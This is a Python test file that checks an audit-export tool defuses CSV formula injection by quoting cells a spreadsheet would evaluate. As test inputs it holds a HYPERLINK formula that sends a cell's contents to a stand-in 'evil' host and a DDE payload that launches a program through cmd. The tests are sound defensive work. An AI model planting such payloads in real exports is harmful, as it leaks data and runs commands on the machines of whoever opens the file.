"""CSV cells are never read as formulas by a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pytest

from application.audit_export import AuditExport, ExportFilter
from application.commands.partners import RegisterPartner
from application.service import Caller
from application.spreadsheet import safe_cell
from infrastructure.audit_chain import raw_log
from interfaces.cli_audit_export import _write

HYPERLINK = '=HYPERLINK("http://evil/?"&A2,"click")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "\n@x"],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, shown",
    [
        ("as decided", "as decided"),
        ("17/0/972-24", "17/0/972-24"),
        ("AGR-2023-0004", "AGR-2023-0004"),
        ("a = b", "a = b"),
        (None, ""),
        (42, "42"),
        ("", ""),
    ],
)
def test_plain_text_and_numbers_are_written_as_they_are(value, shown):
    assert safe_cell(value) == shown


def test_the_audit_export_csv_writes_a_formula_note_as_text(runtime):
    mallory = Caller(actor="=cmd", role="admin", note=HYPERLINK, correlation_id="@req")
    runtime.partners.register_partner(
        RegisterPartner(name="+Brno", country="CZ", kind="city"), mallory
    )
    out = io.StringIO()
    exporter = AuditExport(runtime.app, raw_log(runtime.app.recorder))
    # The partner and its name claim (DOMAIN.md §7), both carrying the command's meta.
    assert _write(exporter.lines(ExportFilter()), "csv", out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
    assert len(rows) == 2
    for row in rows:
        said = (row["note"], row["actor"], row["correlation_id"])
        assert said == ("'" + HYPERLINK, "'=cmd", "'@req")
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_the_audit_export_csv_starts_with_a_bom_and_can_use_semicolons(runtime):
    # Excel on a Ukrainian Windows reads a file without a BOM as cp1251 and splits on `;`.
    runtime.partners.register_partner(
        RegisterPartner(name="Брно", country="CZ", kind="city"),
        Caller(actor="olena", role="admin", note="Харків; місто", correlation_id="r"),
    )
    out = io.StringIO()
    exporter = AuditExport(runtime.app, raw_log(runtime.app.recorder))
    _write(exporter.lines(ExportFilter()), "csv", out, delimiter=";")
    text = out.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["position", "time", "case_id"]
    assert len(rows) == 3 and all(len(r) == len(rows[0]) for r in rows)
    assert "Харків; місто" in rows[1]
